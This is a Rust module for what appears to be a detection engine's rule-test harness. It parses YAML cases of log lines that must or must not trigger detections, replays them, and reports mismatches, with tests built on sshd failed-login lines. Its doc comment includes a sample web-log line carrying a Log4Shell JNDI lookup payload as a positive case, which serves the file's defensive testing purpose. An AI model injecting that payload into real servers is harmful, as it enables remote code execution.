//! Cases: stories beside a rule file, in the sensors' own lines. Some must fire, and the near misses must not.
//!
//! The cases of `rules/web/log4shell.yml` are in `rules/web/cases/log4shell.yml`:
//!
//! ```yaml
//! positive:
//!   - story: a lookup in the name of the browser    # what happens, in words
//!     entity: 203.0.113.7                           # whom each detection is about
//!     detections: 1                                 # how many there must be; 1 unless given
//!     lines: ['203.0.113.7 - - [02/Mar/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 5 "-" "${jndi:ldap://x/a}"']
//! negative:
//!   - story: a browser of that name
//!     lines: ['203.0.113.7 - - [02/Mar/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 5 "-" "jndi/1.0"']
//! ```
//!
//! Each story is played to a fresh engine, line by line, as it would be at noon of 2 March 2026, or, when its lines
//! tell of later times, an hour after the last of them.

use std::collections::{BTreeMap, BTreeSet};
use std::sync::Arc;

use serde::Deserialize;
use serde_saphyr::Spanned;
use vertice_model::{Detection, Position, RawEvent, Threat, ThreatId, Timestamp};

use crate::content::{Content, ContentError, ContentFile};
use crate::{EffectKind, Engine, Input, Record, RefusedEvent, Stamp};

/// The cases of a rule file.
#[derive(Clone, Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Cases {
    #[serde(default)]
    positive: Vec<Spanned<Positive>>,
    #[serde(default)]
    negative: Vec<Spanned<Negative>>,
}

/// Lines of which the rules must make something.
#[derive(Clone, Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct Positive {
    story: String,
    entity: String,
    #[serde(default = "one")]
    detections: usize,
    lines: Vec<String>,
}

/// Lines of which the rules must make nothing.
#[derive(Clone, Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct Negative {
    story: String,
    lines: Vec<String>,
}

fn one() -> usize {
    1
}

/// A story, and what must come of it.
#[derive(Clone, Debug)]
pub struct Case<'c> {
    /// What happens, in words.
    pub story: &'c str,
    /// The line of the case in its file, from 1.
    pub line: u64,
    /// Whom each detection must be about; empty if there must be none.
    pub wanted: Vec<&'c str>,
    /// What the sensors wrote.
    pub lines: &'c [String],
}

/// What came of lines.
#[derive(Debug, Default)]
pub struct Played {
    /// The detections, in order.
    pub detections: Vec<Detection>,
    /// The threats as they stood at the end.
    pub threats: BTreeMap<ThreatId, Threat>,
    /// The lines that no mapping could read.
    pub refused: Vec<RefusedEvent>,
}

impl Cases {
    /// Reads a file of cases.
    ///
    /// # Errors
    /// When it is none, or has a case without lines.
    pub fn read(file: &ContentFile) -> Result<Cases, ContentError> {
        let refuse = |line, column, reason| ContentError { path: file.path.clone(), line, column, reason };
        let cases: Cases = serde_saphyr::from_str(&file.text).map_err(|error| {
            let (line, column) = error.location().map_or((0, 0), |at| (at.line(), at.column()));
            let told = error.without_snippet().to_string();
            refuse(line, column, told.lines().next().unwrap_or_default().to_owned())
        })?;
        if let Some(case) = cases.iter().find(|case| case.lines.is_empty()) {
            return Err(refuse(case.line, 0, format!("{:?}: it has no lines, and so can not fail", case.story)));
        }
        Ok(cases)
    }

    /// The cases: those that must fire, then those that must not.
    pub fn iter(&self) -> impl Iterator<Item = Case<'_>> {
        let positive = self.positive.iter().map(|case| Case {
            story: &case.value.story,
            line: case.referenced.line(),
            wanted: vec![&case.value.entity; case.value.detections],
            lines: &case.value.lines,
        });
        let negative = self.negative.iter().map(|case| Case {
            story: &case.value.story,
            line: case.referenced.line(),
            wanted: Vec::new(),
            lines: &case.value.lines,
        });
        positive.chain(negative)
    }

    /// How many cases must fire, and how many must not.
    #[must_use]
    pub fn count(&self) -> (usize, usize) {
        (self.positive.len(), self.negative.len())
    }
}

impl Case<'_> {
    /// Plays the story.
    #[must_use]
    pub fn play(&self, content: &Arc<Content>) -> Played {
        play(content, self.now(content), self.lines.iter().map(String::as_str))
    }

    /// When it is played: some hours after it happened.
    #[must_use]
    pub fn now(&self, content: &Content) -> Timestamp {
        let noon: Timestamp = "2026-03-02T12:00:00Z".parse().expect("it is a time");
        let stamp = Stamp { position: Position(1), now: noon };
        let told = |line: &String| {
            let raw = RawEvent { origin: Arc::from(ORIGIN), line: line.clone() };
            content.mappings.normalize(stamp, &raw).ok().map(|event| event.timestamp)
        };
        let last = self.lines.iter().filter_map(told).max().filter(|last| *last > noon);
        last.map_or(noon, |last| last.plus_seconds(3_600))
    }

    /// What is wrong with what came of it; `rules` are the ids of those whose cases these are.
    ///
    /// # Errors
    /// In words, if anything is.
    pub fn check(&self, played: &Played, rules: &BTreeSet<&str>) -> Result<(), String> {
        if let Some(refused) = played.refused.first() {
            return Err(format!("line {} can not be read: {}", refused.position.0 - 1, refused.reason));
        }
        let ours = played.detections.iter().filter(|d| rules.contains(d.rule_id.as_str()));
        let got: Vec<&str> = ours.map(|d| d.entity.name()).collect();
        if got == self.wanted {
            return Ok(());
        }
        let told = |entities: &[&str]| match entities {
            [] => "no detection".to_owned(),
            [one] => format!("one detection, about {one}"),
            several => format!("{} detections, about {}", several.len(), several.join(", ")),
        };
        Err(format!("{} is meant; there was {}", told(&self.wanted), told(&got)))
    }
}

/// Where the lines of a story come from.
const ORIGIN: &str = "story";

/// Plays lines to a fresh engine, one log position each from 2 on.
#[must_use]
pub fn play<'l>(content: &Arc<Content>, now: Timestamp, lines: impl IntoIterator<Item = &'l str>) -> Played {
    let mut engine = Engine::default();
    let mut played = Played::default();
    let (mut position, origin) = (Position(1), Arc::<str>::from(ORIGIN));
    let events = lines
        .into_iter()
        .map(|line| Input::Events(vec![RawEvent { origin: Arc::clone(&origin), line: line.to_owned() }]));
    for input in std::iter::once(Input::Content(Arc::clone(content))).chain(events) {
        for effect in engine.apply(Stamp { position, now }, &input) {
            match effect.kind {
                EffectKind::Publish(Record::Detection(detection)) => played.detections.push(detection),
                EffectKind::Publish(Record::Threat(threat)) => {
                    played.threats.insert(threat.threat_id, threat);
                }
                EffectKind::Publish(Record::Refused(refused)) => played.refused.push(refused),
                EffectKind::Publish(
                    Record::Run(_)
                    | Record::Question(_)
                    | Record::Containment(_)
                    | Record::Consultation(_)
                    | Record::Suppression(_),
                )
                | EffectKind::Ask(_)
                | EffectKind::Act(_)
                | EffectKind::Consult(_)
                | EffectKind::Tell(_) => {}
            }
        }
        position = engine.next();
    }
    played
}

#[cfg(test)]
mod tests {
    use super::*;

    const RULE: &str = "title: t\nid: r\nlogsource: {category: authentication}\n\
                        detection: {s: {event.action: failed_login, user.name: root}, condition: s}\n";
    fn cases(text: &str) -> Result<Cases, String> {
        Cases::read(&ContentFile { path: "cases/t.yml".into(), text: text.into() }).map_err(|e| e.to_string())
    }

    #[test]
    fn what_is_no_case_is_refused_with_its_place() {
        for (text, wanted) in [
            ("positive:\n  - story: s\n    entity: e\n    lines: []\n", "cases/t.yml:2: \"s\": it has no lines"),
            ("positive:\n  - story: s\n    lines: [a]\n", "missing field `entity`"),
            ("negative:\n  - story: s\n    line: [a]\n    lines: [b]\n", "cases/t.yml:3:5: "),
            ("positive: [", "cases/t.yml:1:"),
        ] {
            let error = cases(text).expect_err(text);
            assert!(error.contains(wanted), "{text}: {error}");
        }
        let cases = cases(
            "positive:\n  - {story: a, entity: e, detections: 2, lines: [x]}\nnegative:\n\n  - {story: b, lines: [y]}\n",
        );
        let cases = cases.expect("they are cases");
        let told: Vec<_> = cases.iter().map(|c| (c.story, c.line, c.wanted.len(), c.lines[0].as_str())).collect();
        assert_eq!(told, [("a", 2, 2, "x"), ("b", 5, 0, "y")]);
        assert_eq!(cases.count(), (1, 1));
    }

    #[test]
    fn a_story_is_played_after_it_happened_and_told_apart_from_what_is_meant() {
        let file = |path: &str, text: &str| ContentFile { path: path.into(), text: text.into() };
        let sshd = include_str!("../../../content/mappings/sshd.yml");
        let content = Arc::new(Content::compile(vec![file("rules/r.yml", RULE), file("mappings/sshd.yml", sshd)]));
        let rules = BTreeSet::from(["r"]);
        let told = |wanted: &[&str], time: &str, user: &str| {
            let line = format!("{time} h sshd[1]: Failed password for {user} from 203.0.113.9 port 1 ssh2");
            let lines = [line];
            let case = Case { story: "s", line: 1, wanted: wanted.to_vec(), lines: &lines };
            (case.check(&case.play(&content), &rules), case.now(&content).to_string())
        };
        let (held, now) = told(&["203.0.113.9"], "Mar  2 03:04:05", "root");
        assert_eq!((held, now.as_str()), (Ok(()), "2026-03-02T12:00:00Z"));
        let (held, now) = told(&[], "2031-05-01T03:04:05Z", "ana");
        assert_eq!((held, now.as_str()), (Ok(()), "2031-05-01T04:04:05Z"));
        let raw = |line: &str| RawEvent { origin: Arc::from(ORIGIN), line: line.to_owned() };
        let stamp = Stamp { position: Position(1), now: "2026-03-02T12:00:00Z".parse().expect("it is a time") };
        let read = |line: &str| content.mappings.normalize(stamp, &raw(line)).expect("a line of sshd");
        let (rule, _) = content.rules.set().iter().next().expect("one rule");
        let event = read("Mar  2 03:04:05 h sshd[1]: Failed password for ana from 203.0.113.9 port 1 ssh2");
        let verdict = content.rules.verdict(rule, &event).expect("no correlation");
        assert!(content.rules.concerns(rule, &event) && !verdict.holds && verdict.below[0].holds);
        let other = read("Mar  2 03:04:05 h sshd[1]: Server listening on :: port 22.");
        assert!(!content.rules.concerns(rule, &other), "that is no authentication");
        let wrong = |wanted: &[&str], user| told(wanted, "Mar  2 03:04:05", user).0.expect_err("it is wrong");
        assert_eq!(wrong(&["x"], "ana"), "one detection, about x is meant; there was no detection");
        assert_eq!(wrong(&[], "root"), "no detection is meant; there was one detection, about 203.0.113.9");
        let two = wrong(&["x", "x"], "root");
        assert_eq!(two, "2 detections, about x, x is meant; there was one detection, about 203.0.113.9");
        let lines = ["\0".to_owned()];
        let case = Case { story: "s", line: 1, wanted: Vec::new(), lines: &lines };
        let error = case.check(&case.play(&content), &rules).expect_err("no mapping reads it");
        assert!(error.starts_with("line 1 can not be read: "), "{error}");
    }
}
